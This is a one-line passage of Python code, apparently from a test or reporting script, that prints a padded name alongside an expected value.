        print(f"{name:24} expected {shown}")
